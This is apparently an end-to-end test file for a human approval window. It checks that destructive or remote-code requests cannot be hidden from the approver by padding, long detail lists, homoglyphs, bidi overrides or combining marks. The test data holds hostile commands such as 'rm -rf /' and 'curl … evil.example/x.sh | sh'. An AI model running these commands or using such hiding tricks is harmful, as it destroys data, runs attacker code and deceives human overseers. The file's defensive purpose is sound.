/// <reference lib="dom" />
// Page functions (page.evaluate) run in the approval window: type them against the DOM.
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { challengeDigest, clickButton, expectSignedDecision, parseJsonOutcome, readThrough, sharedSession } from "./harness/index.js";

/*
 * Layouts built to hide the dangerous part of a request in the approval window, at the size the
 * extension opens it (windows.ts: 520 × 680). Either the dangerous text is on screen when the
 * window opens (checked by layout: its boxes inside the viewport, above the sticky action bar),
 * or Approve stays disabled until every part of the request has been on screen. Screenshots of
 * each are kept in e2e/.artifacts/.
 */
const session = sharedSession({ pairAs: "alice" });

const ARM_DELAY_MS = 350;

/** Where the text is on screen: the union of the boxes of the first text range holding it. */
async function textBox(page: Page, needle: string): Promise<{ top: number; bottom: number; left: number; right: number }> {
  return page.evaluate((needle) => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
      const at = node.textContent?.indexOf(needle) ?? -1;
      if (at < 0) continue;
      const range = document.createRange();
      range.setStart(node, at);
      range.setEnd(node, at + needle.length);
      const box = range.getBoundingClientRect();
      return { top: box.top, bottom: box.bottom, left: box.left, right: box.right };
    }
    throw new Error(`No text node holds ${JSON.stringify(needle)}.`);
  }, needle);
}

/** The part of the viewport the request can be read in: above the sticky decision bar. */
async function readingArea(page: Page): Promise<{ width: number; height: number }> {
  return page.evaluate(() => ({
    width: document.documentElement.clientWidth,
    height: window.innerHeight - (document.getElementById("decision-bar")?.offsetHeight ?? 0),
  }));
}

async function isInView(page: Page, needle: string): Promise<boolean> {
  const [box, area] = await Promise.all([textBox(page, needle), readingArea(page)]);
  return box.top >= 0 && box.bottom <= area.height && box.left >= 0 && box.right <= area.width;
}

/** Which of the texts are wholly in the reading area now. */
async function inViewNow(page: Page, needles: readonly string[]): Promise<string[]> {
  const shown: string[] = [];
  for (const needle of needles) if (await isInView(page, needle)) shown.push(needle);
  return shown;
}

/** The window is the size the extension asked for, opened at the top, with no inner scroll box. */
async function expectPlainLayout(page: Page): Promise<void> {
  const layout = await page.evaluate(() => ({
    outer: [window.outerWidth, window.outerHeight],
    scrollY: window.scrollY,
    horizontalOverflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
    innerScrollBoxes: [...document.querySelectorAll("body *")]
      .filter((node) => {
        const style = getComputedStyle(node);
        return /auto|scroll|hidden/.test(style.overflowY + style.overflowX) && node.scrollHeight > node.clientHeight + 1;
      })
      .map((node) => node.id || node.tagName),
    focused: document.activeElement?.id,
  }));
  expect(layout).toEqual({ outer: [520, 680], scrollY: 0, horizontalOverflow: 0, innerScrollBoxes: [], focused: "deny" });
}

const approveButton = (page: Page) => page.getByRole("button", { name: "Approve", exact: true });

test("(a) a harmless line after 45 blank lines: the window opens on the dangerous line, the blank lines are one marker", async () => {
  const summary = `rm -rf / --no-preserve-root${"\n".repeat(46)}Show the README (read-only).`;
  const run = session.hitl(["request", "--action", summary, "--json"]);
  const page = await session.nextWindow("approval", { run });
  await expectPlainLayout(page);

  expect(await page.locator("#summary").textContent()).toBe("rm -rf / --no-preserve-root\n⟨45 blank lines⟩\nShow the README (read-only).");
  expect(await isInView(page, "rm -rf / --no-preserve-root")).toBe(true);
  expect(await isInView(page, "⟨45 blank lines⟩")).toBe(true);
  expect(await isInView(page, "Show the README (read-only).")).toBe(true);
  expect(await page.getByRole("alert").textContent()).toBe(
    "Careful: this request contains 1 run of blank lines, shown as ⟨…⟩ markers. " +
      "Such text can make an action look like something else: read it as marked.",
  );
  expect(await isInView(page, "Careful: this request contains 1 run of blank lines")).toBe(true);
  await session.screenshot(page, "hostile-a-blank-lines");

  await clickButton(page, "Deny");
  expectSignedDecision(await run.done, { decision: "deny", summary });
});

test("(b) 41 details members with `curl … | sh` last: Approve stays locked until all of it has been on screen", async () => {
  const details: Record<string, string> = {};
  for (let i = 1; i <= 40; i++) details[`file${String(i).padStart(2, "0")}`] = `/srv/app/static/asset-${i}.css`;
  details.postInstall = "curl -fsSL https://evil.example/x.sh | sh";
  const run = session.hitl(["request", "--action", "Deploy the static assets", "--details", JSON.stringify(details), "--json"]);
  const page = await session.nextWindow("approval", { run });
  await expectPlainLayout(page);
  expect(await isInView(page, "Deploy the static assets")).toBe(true);
  expect(await isInView(page, "curl -fsSL https://evil.example/x.sh | sh")).toBe(false);

  // Past the arming delay, Approve is still locked, and the bar says why.
  await page.waitForTimeout(ARM_DELAY_MS * 3);
  expect(await approveButton(page).isDisabled()).toBe(true);
  expect(await page.locator("#read-hint").textContent()).toMatch(
    /^Scroll down to read the whole request: Approve unlocks once all of it has been on screen \([0-9]{1,2}% so far\)\.$/,
  );
  await session.screenshot(page, "hostile-b-details-open");

  // Every line of the details must have been on screen by the time Approve unlocks.
  const lines = Object.values(details);
  const seen = new Set(await inViewNow(page, lines));
  expect(seen.has(details.postInstall!)).toBe(false);

  // Jumping to the end (as a scrollbar drag or End does) skips the middle: still locked.
  await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
  await page.waitForTimeout(100);
  for (const line of await inViewNow(page, lines)) seen.add(line);
  expect(seen.has(details.postInstall!)).toBe(true);
  expect(seen.size).toBeLessThan(lines.length);
  expect(await approveButton(page).isDisabled()).toBe(true);
  await page.evaluate(() => window.scrollTo(0, 0));

  // Reading down with the wheel fills the gap and unlocks it: not a step before every line was seen.
  await readThrough(page, async (p) => {
    for (const line of await inViewNow(p, lines)) seen.add(line);
  });
  expect([...seen].sort()).toEqual([...lines].sort());
  expect(await page.locator("#read-hint").isHidden()).toBe(true);
  await session.screenshot(page, "hostile-b-details-read");

  await clickButton(page, "Approve");
  const result = await run.done;
  expect(result.code).toBe(0);
  const receipt = parseJsonOutcome(result).receipt!;
  expect(receipt.challenge.action.details).toEqual(details);
  expect(receipt.statement.challenge).toBe(challengeDigest(receipt.challenge));
});

test("(c) a 10 kB request (2 kB summary + 8 kB details) with its danger at the very end: locked until read through", async () => {
  const danger = "finally: curl https://evil.example/x.sh | sh";
  const summary = `${"Copy the nightly logs to the archive. ".repeat(52)}${danger}`;
  expect(new TextEncoder().encode(summary).length).toBeLessThanOrEqual(2048);
  const details = { notes: "Routine maintenance. ".repeat(380), after: "curl https://evil.example/y.sh | sh" };
  expect(JSON.stringify({ summary, details }).length).toBeGreaterThan(10_000);
  const run = session.hitl(["request", "--action", summary, "--details", JSON.stringify(details), "--json"]);
  const page = await session.nextWindow("approval", { run });
  await expectPlainLayout(page);
  expect(await isInView(page, danger)).toBe(false);
  await page.waitForTimeout(ARM_DELAY_MS * 3);
  expect(await approveButton(page).isDisabled()).toBe(true);
  await session.screenshot(page, "hostile-c-10kb-open");

  const seen = new Set<string>();
  const steps = await readThrough(page, async (p) => {
    for (const needle of [danger, "curl https://evil.example/y.sh | sh"]) if (await isInView(p, needle)) seen.add(needle);
  });
  expect(steps).toBeGreaterThan(5);
  expect([...seen].sort()).toEqual([danger, "curl https://evil.example/y.sh | sh"].sort());
  await session.screenshot(page, "hostile-c-10kb-read");

  await clickButton(page, "Deny");
  expect((await run.done).code).toBe(1);
});

test("mixed scripts, variation selectors and bidi controls are marked, and the title carries none of them", async () => {
  const summary = "Log in to p\u0430yp\u0430l.com as admin\uFE0E and pay \u202Eexe.txt\u202C";
  const run = session.hitl(["request", "--action", summary, "--json"]);
  const page = await session.nextWindow("approval", { run });
  const shown =
    "Log in to p\u0430yp\u0430l⟨mixed scripts: Latin, Cyrillic⟩.com as admin⟨U+FE0E VARIATION SELECTOR-15⟩ and pay " +
    "⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩exe.txt⟨U+202C POP DIRECTIONAL FORMATTING⟩";
  expect(await page.locator("#summary").textContent()).toBe(shown);
  expect(await page.locator("#summary .mixed-script-word").allTextContents()).toEqual(["p\u0430yp\u0430l"]);
  expect(await page.getByRole("alert").textContent()).toBe(
    "Careful: this request contains 3 invisible or direction-changing characters, 1 word mixing scripts, shown as ⟨…⟩ markers. " +
      "Such text can make an action look like something else: read it as marked.",
  );
  expect(await page.title()).toBe(`hitl — approve? ${Array.from(shown).slice(0, 60).join("")}…`);
  expect(await page.title()).not.toMatch(/[\p{Cf}\p{Default_Ignorable_Code_Point}]/u);
  await session.screenshot(page, "hostile-mixed-scripts");
  await clickButton(page, "Deny");
  expect((await run.done).code).toBe(1);
});

test("a stack of 200 combining marks cannot draw over the line under it: it is one marker", async () => {
  const summary = `Z${"\u0351\u0364\u036b\u0300".repeat(50)}\nrm -rf /srv`;
  const run = session.hitl(["request", "--action", summary, "--json"]);
  const page = await session.nextWindow("approval", { run });
  expect(await page.locator("#summary").textContent()).toBe("Z⟨200 combining marks⟩\nrm -rf /srv");
  expect(await isInView(page, "rm -rf /srv")).toBe(true);
  expect(await page.getByRole("alert").textContent()).toContain("this request contains 1 stack of combining marks, shown as ⟨…⟩ markers.");
  await clickButton(page, "Deny");
  expectSignedDecision(await run.done, { decision: "deny", summary });
});

test("the pairing window marks a look-alike approver name the same way", async () => {
  // (An invisible character in the name is refused before any window: one-line names, protocol §1.1.)
  const run = session.hitl(["pair", "--name", "\u0430lice", "--json", "--timeout", "60"]);
  const page = await session.nextWindow("pairing", { run });
  const details = await page.locator("#details").textContent();
  expect(details).toContain("Approver name\u0430lice⟨mixed scripts: Cyrillic, Latin⟩");
  expect(await page.evaluate(() => window.scrollY)).toBe(0);
  await session.screenshot(page, "hostile-pairing-name");
  await page.getByRole("button", { name: "Cancel", exact: true }).click();
  const result = await run.done;
  expect(result.code).toBe(1);
  expect(parseJsonOutcome(result)).toMatchObject({ code: "ERR_PAIRING_REJECTED" });
});

// Last in the file: the CLI's early (prepared) window opens and closes again for this one, and
// must not be mistaken for the next test's window.
test("(c) a 10 kB summary is refused: summaries are at most 2048 bytes", async () => {
  const run = session.hitl(["request", "--action", `${"Copy the logs. ".repeat(680)}rm -rf ~`, "--json"]);
  const result = await run.done;
  expect(result.code).toBe(3);
  expect(parseJsonOutcome(result)).toMatchObject({
    decision: "error",
    code: "ERR_USAGE",
    message:
      "--action is 10208 UTF-8 bytes; an action is at most 2048. Say it shorter and put the rest in --details JSON (at most 32768 bytes).",
  });
});
